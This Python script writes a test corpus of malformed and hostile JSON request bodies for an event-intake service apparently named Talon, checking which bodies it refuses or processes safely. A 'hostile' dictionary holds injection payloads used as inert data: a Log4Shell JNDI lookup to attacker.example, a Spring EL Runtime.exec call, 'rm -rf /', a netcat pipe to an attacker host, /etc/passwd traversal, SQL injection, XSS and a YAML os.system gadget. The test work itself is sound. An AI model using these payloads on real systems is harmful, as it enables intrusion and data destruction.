#!/usr/bin/env python3
"""Writes the hostile-event corpus used by BadEventCorpusTest.

Each file is one request body. Its name starts with the status Talon must answer:
  200-*  processed safely (the hostile part is data, nothing more)
  400-*  refused with a JSON body naming the problem
  413-*  over the body limit (the test runs with the default 1 MiB)
Run it from this directory to regenerate; the files are committed so the test needs no Python.
"""
import json, os

VALID = {"uuid": "00000000-0000-0000-0000-000000000000", "output": "12:00:00.000000000: Critical corpus event",
         "priority": "Critical", "rule": "Corpus", "time": "2026-11-27T12:00:00Z", "source": "syscall",
         "hostname": "node-1", "tags": ["corpus"],
         "output_fields": {"k8s.pod.name": "victim", "k8s.ns.name": "default", "proc.cmdline": "sh"}}
files = {}

def put(name, body):
    files[name] = body if isinstance(body, bytes) else body.encode("utf-8")

def event(**changes):
    e = json.loads(json.dumps(VALID))
    for k, v in changes.items():
        if v is KeyError:
            e.pop(k, None)
        else:
            e[k] = v
    return e

def fields(extra):
    e = event()
    e["output_fields"] = dict(e["output_fields"], **extra)
    return json.dumps(e)

# not JSON at all
for i, b in enumerate(["hello", "<xml/>", "rule=x&priority=y", "{'rule': 'x'}", "{rule: x}", "\x00\x01\x02",
                       "NaN", "}{", "[", "{\"rule\":\"x\",}"]):
    put(f"400-not-json-{i:02d}.txt", b)
# valid JSON but not one object
for i, b in enumerate(["[]", "[{}]", "42", "\"event\"", "true", "null", "{} {}", "{\"rule\":\"x\"}[]"]):
    put(f"400-not-an-object-{i:02d}.json", b)
# truncated
full = json.dumps(VALID)
for i, n in enumerate([1, 10, 40, 100, 200, len(full) - 1]):
    put(f"400-truncated-{i:02d}.json", full[:n])
# missing required fields
put("400-missing-rule.json", json.dumps(event(rule=KeyError)))
put("400-missing-priority.json", json.dumps(event(priority=KeyError)))
put("400-empty-object.json", "{}")
put("400-blank-rule.json", json.dumps(event(rule="   ")))
put("400-unknown-priority.json", json.dumps(event(priority="Catastrophic")))
put("400-priority-with-operator.json", json.dumps(event(priority=">=Critical")))
# wrong types for every field
for field in ["rule", "priority", "output", "time", "source", "hostname", "uuid"]:
    for tname, v in [("number", 42), ("bool", True), ("array", ["x"]), ("object", {"x": 1})]:
        put(f"400-type-{field}-{tname}.json", json.dumps(event(**{field: v})))
for tname, v in [("number", 1), ("string", "a,b"), ("object", {"a": 1}), ("bool", False)]:
    put(f"400-type-tags-{tname}.json", json.dumps(event(tags=v)))
put("400-type-tags-element.json", json.dumps(event(tags=["ok", 3])))
for tname, v in [("number", 1), ("string", "k=v"), ("array", [["k", "v"]]), ("bool", True)]:
    put(f"400-type-output_fields-{tname}.json", json.dumps(event(output_fields=v)))
put("400-duplicate-key-case.json", '{"rule":"a","Rule":"b","priority":"Debug"}')
put("400-duplicate-key.json", '{"rule":"a","rule":"b","priority":"Debug"}')
put("400-empty-field-name.json", fields({"": "x"}))
# deep nesting
put("400-nested-40.json", fields({"deep": json.loads("[" * 40 + "]" * 40)}))
put("400-nested-10000.json", '{"rule":"x","priority":"Debug","output_fields":{"d":' + "[" * 10000 + "]" * 10000 + "}}")
put("400-nested-objects.json", '{"rule":"x","priority":"Debug","output_fields":{"d":' + '{"a":' * 100 + "1" + "}" * 100 + "}}")
# null values are fine where optional
put("200-nulls.json", json.dumps(event(output=None, time=None, source=None, hostname=None, uuid=None, tags=None,
                                       output_fields=None)))
put("200-null-field-values.json", fields({"container.image": None, "fd.rport": None}))
# sizes: the bodies over 100 KB (up to 10 MB, and over the 1 MiB limit) are built by BadEventCorpusTest itself
put("200-many-fields.json", fields({f"f{i}": i for i in range(5000)}))
put("200-many-tags.json", json.dumps(event(tags=[f"t{i}" for i in range(5000)])))
# numbers
put("200-big-numbers.json", fields({"a": 123456789012345678901234567890, "b": -1e308, "c": 1e-308, "d": 0.1}))
put("400-number-too-long.json", '{"rule":"x","priority":"Debug","output_fields":{"n":' + "9" * 1000 + "}}")
# unicode and control characters
put("200-unicode.json", json.dumps(event(rule="Règle ⚠️ 规则", output="📦 ünïcödé \u202e reversed",
                                         output_fields={"k8s.pod.name": "pöd-ünïcode", "k8s.ns.name": "default"})))
put("200-control-chars.json", json.dumps(event(output="line1\nline2\r\n\tEND\u0000\u0007\u001b[31mred",
                                               output_fields={"k8s.pod.name": "p\nq", "k8s.ns.name": "ns\r\nx"})))
put("200-log-forging.json", json.dumps(event(output="ok\n2026-11-27 INFO results action success: forged",
                                             rule="x\nINFO forged line")))
put("400-invalid-utf8.json", b'{"rule":"\xff\xfe","priority":"Debug"}')
put("200-bom.json", "\ufeff" + json.dumps(VALID))
put("200-escaped-unicode.json", '{"rule":"\\u0041\\u0000","priority":"Debug","output":"\\ud83d\\ude00"}')
put("200-lone-surrogate.json", '{"rule":"\\ud800","priority":"Debug"}')
# values that look like URI options, placeholders, expressions, shell
hostile = {
    "uri-options": "pod?operation=deletePod&namespace=kube-system#frag",
    "camel-placeholder": "{{env:HOME}}{{sys:user.home}}",
    "camel-simple": "${header.TalonStatus}${bean:eventIntake}${sys.user.home}",
    "spring-el": "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "log4shell": "${jndi:ldap://attacker.example/a}",
    "shell-semicolon": "x; rm -rf /",
    "shell-subst": "$(touch /tmp/pwned) `id`",
    "shell-pipes": "a | nc attacker 4444 && echo || true > /etc/passwd",
    "shell-quotes": "'\"'\"'; echo pwned; '",
    "path-traversal": "../../../../etc/passwd",
    "crlf-header": "x\r\nTalonStatus: failure\r\n",
    "percent-encoding": "%2e%2e%2f%00%0d%0a",
    "sql": "' OR 1=1; DROP TABLE events; --",
    "html": "<script>alert(1)</script>",
    "yaml": "!!python/object/apply:os.system ['id']",
    "json-in-string": "{\"rule\":\"nested\",\"priority\":\"Emergency\"}",
}
for name, v in hostile.items():
    put(f"200-field-{name}.json", fields({"proc.cmdline": v, "fd.name": v, "k8s.pod.name": v}))
    put(f"200-rule-{name}.json", json.dumps(event(rule=v, output=v, hostname=v, source=v)))
# odd field names
for i, k in enumerate(["with space", "a.b.c.d.e.f", "proc.aname[2]", "$dollar", "{{x}}", "${x}", "ü.ñ.ï",
                       "k" * 10_000, "x?y=z&a=b", "../etc", "\u0000nul"]):
    put(f"200-odd-field-name-{i:02d}.json", fields({k: "v"}))
# case-insensitive keys and extra keys
put("200-uppercase-keys.json", json.dumps({k.upper(): v for k, v in VALID.items()}))
put("200-extra-keys.json", json.dumps(dict(VALID, extra={"a": [1, 2]}, priority_num=5, __proto__={"x": 1})))
put("200-minimal.json", '{"rule":"x","priority":"debug"}')

for name in os.listdir("."):
    if name[:4] in ("200-", "400-", "413-"):
        os.remove(name)
for name, body in files.items():
    with open(name, "wb") as f:
        f.write(body)
print(len(files), "files")
